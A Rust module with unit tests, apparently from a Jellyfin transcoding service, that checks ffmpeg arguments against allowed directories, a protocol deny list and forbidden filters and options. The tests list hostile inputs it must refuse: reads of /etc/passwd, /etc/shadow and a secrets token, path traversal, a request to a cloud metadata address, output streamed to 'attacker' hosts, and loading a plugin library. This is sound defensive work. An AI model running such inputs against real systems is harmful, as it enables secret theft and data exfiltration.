//! Which files a job may touch. Pure: argv and directories in, a verdict out.
//!
//! ffmpeg has hundreds of options and most take a value, so instead of guessing which values
//! are file names, every argument is checked as if it could be one:
//! - a URL whose scheme is an ffmpeg protocol is refused, except `file:` (its path is
//!   checked) and `pipe:`/`fd:` on stdin, stdout or stderr, which travel with the job;
//! - any other argument is resolved against the working directory, normalised lexically
//!   (`..` removed), and must lie under an allowed directory. Values such as `0:a:0`,
//!   `30000/1001` or `expr:gte(t,n_forced*3)` resolve inside the working directory, which
//!   is always an allowed one, so they pass;
//! - filtergraphs (`-vf`, `-af`, `-filter_complex`, `-f lavfi` inputs) are parsed and each
//!   filter argument is checked the same way (`subtitles=f=...`, `movie=...`);
//! - what would read files or load code the arguments do not show is refused: `-f tee`,
//!   `*_script` options and `-/option file`, and the frei0r/LADSPA/LV2/ZeroMQ filters.
//!
//! Symbolic links are not followed: the media and transcode directories are the cluster
//! administrator's and Jellyfin's own.

use std::path::{Component, Path, PathBuf};

use crate::filtergraph::{Graph, unescape};

/// Why a job's arguments were refused.
#[derive(thiserror::Error, Debug, Clone, PartialEq, Eq)]
pub enum PathError {
    /// A path outside the media and transcode directories.
    #[error("{argument:?} names {path:?}, outside the media and transcode directories")]
    Outside {
        /// The argument as given.
        argument: String,
        /// Where it points.
        path: PathBuf,
    },
    /// A protocol that reaches the network or other files.
    #[error("{argument:?} uses the {scheme:?} protocol, which the transcoder does not allow")]
    Protocol {
        /// The argument as given.
        argument: String,
        /// The protocol.
        scheme: String,
    },
    /// An option, format or filter that would open files or load code unseen.
    #[error("{0} is not allowed on the transcoder")]
    Forbidden(String),
}

/// Every protocol ffmpeg 5–7 knows (`libavformat/protocols.c`), plus the schemes that
/// formats open themselves (`rtsp`, `sap`).
const PROTOCOLS: &[&str] = &[
    "amqp",
    "android_content",
    "async",
    "bluray",
    "cache",
    "concat",
    "concatf",
    "content",
    "crypto",
    "data",
    "dtls",
    "fd",
    "ffrtmpcrypt",
    "ffrtmphttp",
    "file",
    "ftp",
    "gopher",
    "gophers",
    "hls",
    "http",
    "httpproxy",
    "https",
    "icecast",
    "ipfs",
    "ipns",
    "md5",
    "mmsh",
    "mmst",
    "pipe",
    "prompeg",
    "rist",
    "rtmp",
    "rtmpe",
    "rtmps",
    "rtmpt",
    "rtmpte",
    "rtmpts",
    "rtp",
    "rtsp",
    "rtsps",
    "sap",
    "sctp",
    "sftp",
    "smb",
    "srt",
    "srtp",
    "subfile",
    "tcp",
    "tee",
    "tls",
    "udp",
    "udplite",
    "unix",
    "zmq",
];

/// Filters that load plugins or open sockets.
const FORBIDDEN_FILTERS: &[&str] = &["frei0r", "frei0r_src", "ladspa", "lv2", "zmq", "azmq"];

/// Options whose values are filtergraphs.
const FILTER_OPTIONS: &[&str] = &["vf", "af", "filter", "lavfi", "filter_complex"];

/// The characters ffmpeg allows in a protocol name (`URL_SCHEME_CHARS`).
fn scheme_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')
}

/// The protocol `argument` names, the way `url_find_protocol` reads it.
fn scheme(argument: &str) -> Option<&str> {
    if argument.starts_with("subfile,") {
        return Some("subfile");
    }
    let end = argument.find(|c| !scheme_char(c))?;
    (end > 0 && argument[end..].starts_with(':')).then(|| &argument[..end])
}

/// `path` made absolute against `cwd` and normalised without touching the file system.
pub fn normalise(path: &Path, cwd: &Path) -> PathBuf {
    let mut out = PathBuf::from("/");
    for component in cwd.join(path).components() {
        match component {
            Component::Normal(part) => out.push(part),
            Component::ParentDir => {
                out.pop();
            }
            Component::RootDir | Component::CurDir | Component::Prefix(_) => {}
        }
    }
    out
}

/// The directories a job may use, normalised.
#[derive(Debug, Clone)]
pub struct Allowed {
    dirs: Vec<PathBuf>,
    transcode_dir: PathBuf,
}

impl Allowed {
    /// The media directory (read) and the transcode directory (read and write), which is
    /// also where jobs from elsewhere run.
    pub fn new(media_dir: &Path, transcode_dir: &Path) -> Allowed {
        let root = Path::new("/");
        let transcode_dir = normalise(transcode_dir, root);
        Allowed {
            dirs: vec![normalise(media_dir, root), transcode_dir.clone()],
            transcode_dir,
        }
    }

    /// Allows `dir` too (e.g. Jellyfin's metadata directory, for chapter images).
    pub fn with(mut self, dir: &Path) -> Allowed {
        self.dirs.push(normalise(dir, Path::new("/")));
        self
    }

    /// Whether `path` (absolute, normalised) lies under an allowed directory.
    pub fn contains(&self, path: &Path) -> bool {
        self.dirs.iter().any(|dir| path.starts_with(dir))
    }

    /// Where the job runs: the caller's directory when it is allowed, else the transcode
    /// directory (Jellyfin runs ffmpeg from its own directory and passes absolute paths).
    pub fn working_dir(&self, cwd: &str) -> PathBuf {
        let cwd = normalise(Path::new(cwd), Path::new("/"));
        if self.contains(&cwd) {
            cwd
        } else {
            self.transcode_dir.clone()
        }
    }

    /// Checks every argument; `cwd` is the directory the job will run in.
    ///
    /// Nothing is skipped as "the value of an option": every argument, option names
    /// included, is checked as a possible path, so guessing wrong which options take values
    /// can only add checks, never remove one.
    pub fn check(&self, args: &[String], cwd: &Path) -> Result<(), PathError> {
        let mut lavfi_input = false;
        for (index, argument) in args.iter().enumerate() {
            let option = argument.strip_prefix('-').filter(|o| !o.is_empty());
            if let Some(option) = option
                && (option.starts_with('/') || option.ends_with("_script"))
            {
                return Err(PathError::Forbidden(format!("the option {argument}")));
            }
            self.check_value(argument, cwd)?;
            let Some(option) = option else {
                continue;
            };
            let name = option.split(':').next().unwrap_or_default();
            let Some(value) = args.get(index + 1) else {
                continue;
            };
            if FILTER_OPTIONS.contains(&name) || (name == "i" && lavfi_input) {
                self.check_graph(value, cwd)?;
            }
            if name == "f" {
                if value == "tee" {
                    return Err(PathError::Forbidden("the tee format".to_owned()));
                }
                lavfi_input = value == "lavfi";
            } else if name == "i" {
                lavfi_input = false;
            }
        }
        Ok(())
    }

    fn check_graph(&self, text: &str, cwd: &Path) -> Result<(), PathError> {
        for filter in Graph::parse(text).filters {
            if FORBIDDEN_FILTERS.contains(&filter.base_name()) {
                return Err(PathError::Forbidden(format!(
                    "the {} filter",
                    filter.base_name()
                )));
            }
            self.check_value(&filter.name, cwd)?;
            // ffmpeg unescapes filter arguments once for the graph and once for the filter;
            // a value must be safe however many levels apply.
            for (_, value) in filter.arguments() {
                let once = unescape(&value);
                self.check_value(&value, cwd)?;
                self.check_value(&once, cwd)?;
                self.check_value(&unescape(&once), cwd)?;
            }
        }
        Ok(())
    }

    fn check_value(&self, argument: &str, cwd: &Path) -> Result<(), PathError> {
        if argument.is_empty() || argument == "-" {
            return Ok(());
        }
        let path = match scheme(argument) {
            Some("file") => &argument["file:".len()..],
            Some("pipe" | "fd") => {
                let stream = &argument[argument.find(':').unwrap_or_default() + 1..];
                return if matches!(stream, "" | "0" | "1" | "2") {
                    Ok(())
                } else {
                    Err(PathError::Forbidden(format!(
                        "{argument:?}: only stdin, stdout and stderr travel with a job"
                    )))
                };
            }
            Some(scheme) if scheme.contains('+') || PROTOCOLS.contains(&scheme) => {
                return Err(PathError::Protocol {
                    argument: argument.to_owned(),
                    scheme: scheme.to_owned(),
                });
            }
            // Not a protocol ffmpeg knows ("0:a:0", "expr:..."): a relative name at worst.
            Some(_) | None => argument,
        };
        let resolved = normalise(Path::new(path), cwd);
        if self.contains(&resolved) {
            Ok(())
        } else {
            Err(PathError::Outside {
                argument: argument.to_owned(),
                path: resolved,
            })
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed() -> Allowed {
        Allowed::new(Path::new("/media"), Path::new("/cache"))
    }

    fn check(line: &str) -> Result<(), PathError> {
        let args: Vec<String> = line.split(' ').map(str::to_owned).collect();
        let allowed = allowed();
        allowed.check(&args, &allowed.working_dir("/"))
    }

    #[test]
    fn jellyfins_hls_command_lines_pass() {
        let nvenc = "-analyzeduration 200M -probesize 1G -init_hw_device cuda=cu:0 -filter_hw_device cu -hwaccel cuda -hwaccel_output_format cuda -noautorotate -hwaccel_flags +unsafe_output -threads 1 -autorotate 0 -i file:/media/Movies/A.mkv -map_metadata -1 -map_chapters -1 -threads 0 -map 0:0 -map 0:1 -map -0:s -codec:v:0 h264_nvenc -preset p1 -b:v 7441176 -maxrate 7441176 -bufsize 14882352 -g:v:0 72 -keyint_min:v:0 72 -vf setparams=color_primaries=bt709:color_trc=bt709:colorspace=bt709,scale_cuda=format=yuv420p -codec:a:0 aac -ac 2 -ab 256000 -copyts -avoid_negative_ts disabled -max_muxing_queue_size 2048 -f hls -max_delay 5000000 -hls_time 3 -hls_segment_type fmp4 -hls_fmp4_init_filename abc-1.mp4 -start_number 0 -hls_segment_filename /cache/transcodes/abc%d.mp4 -hls_playlist_type vod -hls_list_size 0 -y /cache/transcodes/abc.m3u8";
        assert_eq!(check(nvenc), Ok(()));
        let x264 = "-i file:/media/b.mkv -codec:v:0 libx264 -preset veryfast -force_key_frames:0 expr:gte(t,n_forced*3) -r 30000/1001 -vf subtitles=f='/media/b.mkv':si=0:fontsdir='/cache/attachments/b' -f hls -hls_base_url hls/b/ pipe:1";
        assert_eq!(check(x264), Ok(()));
        assert_eq!(
            check("-v quiet -print_format json -show_streams -show_format file:/media/b.mkv"),
            Ok(())
        );
        assert_eq!(
            check("-dump_attachment:t  -y -i file:/media/b.mkv -t 0 -f null null"),
            Ok(())
        );
    }

    #[test]
    fn paths_outside_the_allowed_directories_are_refused() {
        for line in [
            "-i /etc/passwd -f null -",
            "-i /media/../etc/passwd -f null -",
            "-i file:/var/run/secrets/token -f null -",
            "-i /media/a.mkv /tmp/out.mp4",
            "-i /media/a.mkv ../../tmp/out.mp4",
            "-i /media/a.mkv -hls_segment_filename /tmp/s%d.ts /cache/a.m3u8",
            "-i /media/a.mkv -vf subtitles=/etc/passwd /cache/a.mp4",
            "-i /media/a.mkv -filter_complex [0:v]subtitles=f='/media/../etc/shadow' /cache/a.mp4",
            "-f lavfi -i movie=/etc/passwd /cache/a.mp4",
            "-i /media2/a.mkv /cache/a.mp4",
            "-i /media/a.mkv -user_agent -vf /tmp/a.mp4",
            "-i /media/a.mkv -user_agent -metadata /tmp/a.mp4",
            "-i /media/a.mkv -passlogfile -x/../../../tmp/y /cache/a.mp4",
        ] {
            assert!(
                matches!(check(line), Err(PathError::Outside { .. })),
                "{line}"
            );
        }
    }

    #[test]
    fn network_and_indirect_protocols_are_refused() {
        for line in [
            "-i http://169.254.169.254/latest/meta-data /cache/a.mp4",
            "-i concat:/media/a.ts|/etc/passwd /cache/a.mp4",
            "-i subfile,,start,0,end,0,,:/etc/passwd /cache/a.mp4",
            "-i /media/a.mkv -f rtsp rtsp://attacker/x",
            "-i /media/a.mkv -progress tcp://attacker:9/ /cache/a.mp4",
            "-i crypto+file:/etc/passwd /cache/a.mp4",
        ] {
            assert!(
                matches!(check(line), Err(PathError::Protocol { .. })),
                "{line}"
            );
        }
    }

    #[test]
    fn indirections_the_arguments_do_not_show_are_refused() {
        for line in [
            "-i /media/a.mkv -f tee [f=mp4]/cache/a.mp4|/tmp/b.mp4",
            "-i /media/a.mkv -filter_complex_script /cache/graph.txt /cache/a.mp4",
            "-i /media/a.mkv -/vf /cache/graph.txt /cache/a.mp4",
            "-i /media/a.mkv -af ladspa=file=/cache/evil.so /cache/a.mp4",
            "-i /media/a.mkv -passlogfile -/../../tmp/x /cache/a.mp4",
            "-i pipe:3 /cache/a.mp4",
        ] {
            assert!(
                matches!(check(line), Err(PathError::Forbidden(_))),
                "{line}"
            );
        }
        assert_eq!(check("-i pipe:0 -f mpegts pipe:1"), Ok(()));
    }

    #[test]
    fn a_job_runs_in_its_callers_directory_only_when_that_is_allowed() {
        let allowed = allowed();
        assert_eq!(
            allowed.working_dir("/cache/attachments/x"),
            Path::new("/cache/attachments/x")
        );
        assert_eq!(allowed.working_dir("/"), Path::new("/cache"));
        assert_eq!(allowed.working_dir("/cache/../etc"), Path::new("/cache"));
        let args = vec!["-i".to_owned(), "../../etc/passwd".to_owned()];
        assert!(
            allowed
                .check(&args, &allowed.working_dir("/cache/a"))
                .is_err()
        );
    }

    #[test]
    fn a_further_directory_can_be_allowed() {
        let args = vec![
            "-i".to_owned(),
            "/media/a.mkv".to_owned(),
            "/config/data/x.jpg".to_owned(),
        ];
        let cwd = Path::new("/cache");
        assert!(allowed().check(&args, cwd).is_err());
        assert_eq!(
            allowed().with(Path::new("/config/data/")).check(&args, cwd),
            Ok(())
        );
    }

    #[test]
    fn normalising_never_climbs_above_the_root() {
        assert_eq!(
            normalise(Path::new("../../../x"), Path::new("/a")),
            Path::new("/x")
        );
        assert_eq!(
            normalise(Path::new("./b/./c/.."), Path::new("/a")),
            Path::new("/a/b")
        );
        assert_eq!(
            normalise(Path::new("/abs"), Path::new("/a")),
            Path::new("/abs")
        );
    }
}
